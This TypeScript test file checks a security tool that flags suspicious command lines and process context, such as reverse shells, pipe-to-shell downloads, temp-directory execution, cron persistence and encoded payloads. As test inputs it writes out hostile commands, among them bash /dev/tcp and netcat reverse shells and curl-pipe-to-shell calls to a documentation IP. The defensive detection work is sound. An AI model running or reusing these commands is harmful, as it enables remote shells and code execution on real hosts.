import fc from 'fast-check';
import { expect, test } from 'vitest';
import { COMMAND_INDICATORS, findIndicators } from './command-indicators.ts';
import type { EventValues } from './event-values.ts';
import type { HintInput } from './hint-input.ts';
import { HINTS, hintsFor } from './hints.ts';

const input = (...events: EventValues[]): HintInput => ({ events, prevalence: null, historyCovered: null });
const one = (field: string, value: string): HintInput => input({ [field]: [value] });
const leanings = (name: string, of: HintInput) => hintsFor([name], of).map(({ leaning }) => leaning);

test.each([
  ['sh -c whoami', ['reconnaissance']],
  ['sh -c /usr/bin/id', ['reconnaissance']],
  ['sh -c cd /tmp; uname -a', ['reconnaissance']],
  ['sh -c cat /etc/passwd', ['reads-accounts']],
  ['bash -c bash -i >& /dev/tcp/198.51.100.7/4444 0>&1', ['reverse-shell']],
  ['sh -c nc -e /bin/sh 198.51.100.7 4444', ['reverse-shell']],
  ['sh -c curl -s http://198.51.100.7/a.sh | sh', ['download', 'pipe-to-shell']],
  [
    'sh -c wget -qO /tmp/x http://x.example/x; chmod +x /tmp/x; /tmp/x',
    ['download', 'executable-in-temp', 'runs-from-temp'],
  ],
  ['sh -c chmod 755 /dev/shm/.k', ['executable-in-temp']],
  ['sh -c echo aWQ= | base64 -d | bash', ['decode', 'pipe-to-shell']],
  [`php -r eval(base64_decode("${'QUJD'.repeat(20)}"));`, ['decode', 'encoded-payload', 'one-liner']],
  ['python3 -c import socket;s=socket.socket()', ['reverse-shell', 'one-liner']],
  ['sh -c (crontab -l; echo x) | crontab -', ['persistence']],
  ['sh -c cat $IFS/etc/hosts', ['encoded-payload']],
  ['/bin/sh -c /usr/sbin/logrotate /etc/logrotate.d/nginx', []],
  ['sh -c /usr/bin/php /var/www/app/artisan schedule:run', []],
  ['/usr/bin/file -b /var/www/html/pic.svg', []],
  ['sh -c /opt/app/bin/identify --id 7', []],
])('%s', (command, names) => {
  expect(findIndicators(command).map(({ indicator }) => indicator.name)).toEqual(names);
});

test('a command line made to be slow is searched as fast as any', () => {
  const slow = [
    'nc '.repeat(5000),
    'base64 -a '.repeat(2000),
    'chmod -R '.repeat(2000),
    `sh -c ${'/a'.repeat(8000)}`,
    ';'.repeat(16_000),
  ];
  expect(slow.flatMap((command) => findIndicators(command)).length).toBeLessThan(
    slow.length * COMMAND_INDICATORS.length,
  );
});

test.each([
  ['working-directory', 'process.working_directory', '/tmp', 'suspicious'],
  ['working-directory', 'process.working_directory', '/var/www/html/../../../dev/shm', 'suspicious'],
  ['working-directory', 'process.working_directory', '/var/www/html/.cache', 'suspicious'],
  ['working-directory', 'process.working_directory', '/var/www/html/wp-content/uploads/2026', 'suspicious'],
  ['working-directory', 'process.working_directory', '/var/www/html', 'neutral'],
  ['working-directory', 'process.working_directory', '/var/www/dev', 'expected'],
  ['working-directory', 'process.working_directory', '/etc', 'neutral'],
  ['parent', 'process.parent.name', 'nginx', 'suspicious'],
  ['parent', 'process.parent.name', 'php-fpm8.2', 'suspicious'],
  ['parent', 'process.parent.name', 'cron', 'expected'],
  ['parent', 'process.parent.name', 'zsh', 'neutral'],
  ['user', 'user.name', 'www-data', 'expected'],
  ['user', 'user.id', '33', 'expected'],
  ['user', 'user.name', 'root', 'suspicious'],
  ['user', 'user.id', '1000', 'suspicious'],
  ['user', 'user.name', 'alice', 'neutral'],
  ['executable-location', 'process.executable', '/usr/bin/file', 'expected'],
  ['executable-location', 'process.executable', '/opt/app/run', 'neutral'],
  ['executable-location', 'process.executable', '/dev/shm/x', 'suspicious'],
  ['executable-location', 'process.executable', '/var/www/html/x.php', 'suspicious'],
  ['executable-location', 'process.executable', '/usr/bin/x (deleted)', 'suspicious'],
  ['time', '@timestamp', '2026-11-21T03:00:00.000Z', 'suspicious'],
  ['time', '@timestamp', '2026-11-21T12:00:00.000Z', 'neutral'],
])('%s: %s of %s is %s', (name, field, value, leaning) => {
  const [hint] = hintsFor([name], one(field, value));
  expect(hint?.leaning).toBe(leaning);
  expect(hint?.reason).toContain(field === '@timestamp' ? value.slice(0, 10) : value);
});

test('a user is read by name and id together', () => {
  expect(leanings('user', input({ 'user.name': ['alice'], 'user.id': ['1001'] }))).toEqual(['suspicious']);
  expect(leanings('user', input({ 'user.name': ['tomcat9'], 'user.id': ['998'] }, { 'user.name': ['root'] }))).toEqual([
    'suspicious',
    'expected',
  ]);
});

test('many events at once are a burst', () => {
  const at = (second: number) => ({ '@timestamp': [`2026-11-21T12:00:${String(second).padStart(2, '0')}.000Z`] });
  expect(hintsFor(['time'], input(at(1), at(2), at(3), at(4), at(50)))).toEqual([
    { leaning: 'suspicious', reason: '5 or more events within a minute from 2026-11-21 12:00:01 UTC on.' },
  ]);
  expect(leanings('time', input(at(1), at(2), at(3), at(4)))).toEqual(['neutral']);
});

const event = { '@timestamp': ['2026-11-21T12:00:00.000Z'], 'host.name': ['web-1'] };
const known = (
  numbers: Partial<NonNullable<HintInput['prevalence']>>,
  historyCovered: number | null = null,
): HintInput => ({
  events: [event],
  prevalence: { commandHosts: 1, totalHosts: 24, commandEvents: 3, commandFirstSeen: null, ...numbers },
  historyCovered,
});

test('spread reads how many hosts have the command', () => {
  expect(hintsFor(['spread'], known({}))).toEqual([
    { leaning: 'suspicious', reason: 'Only “web-1” of 24 hosts has run it.' },
  ]);
  expect(leanings('spread', known({ commandHosts: 3 }))).toEqual(['neutral']);
  expect(leanings('spread', known({ commandHosts: 12 }))).toEqual(['expected']);
  expect(leanings('spread', known({ totalHosts: 1 }))).toEqual(['neutral']);
  expect(leanings('spread', input(event))).toEqual([]);
});

test('first-seen tells the new from the known, and how far back the data goes', () => {
  expect(hintsFor(['first-seen'], known({ commandFirstSeen: '2026-11-18T12:00:00.000Z' }))).toEqual([
    {
      leaning: 'expected',
      reason: 'The same command was first seen at 2026-11-18 12:00:00 UTC, 3 days before; 3 events in all.',
    },
  ]);
  expect(leanings('first-seen', known({ commandFirstSeen: '2026-11-21T11:59:00.000Z' }))).toEqual(['suspicious']);
  expect(hintsFor(['first-seen'], known({}, 0.255))).toEqual([
    { leaning: 'neutral', reason: expect.stringContaining('25 %') },
  ]);
});

test('a value is cited on one line and cut where it is long', () => {
  const [hint] = hintsFor(['working-directory'], one('process.working_directory', `/tmp/\n\u0000${'😀'.repeat(500)}`));
  expect(hint?.reason).toMatch(/^“\/tmp\/ [^\n]{1,400}…” is a temporary directory/);
});

test('no hint fails on any event', () => {
  const field = fc.constantFrom(
    'process.command_line',
    'process.working_directory',
    'process.executable',
    'process.parent.name',
    'user.name',
    'user.id',
    '@timestamp',
    'host.name',
  );
  const events = fc.array(fc.dictionary(field, fc.array(fc.string({ unit: 'binary' }))), { maxLength: 4 });
  fc.assert(
    fc.property(events, (values) => {
      for (const hint of hintsFor([...HINTS.keys(), 'no-such-hint'], input(...values)))
        expect(hint.reason).not.toBe('');
    }),
  );
});
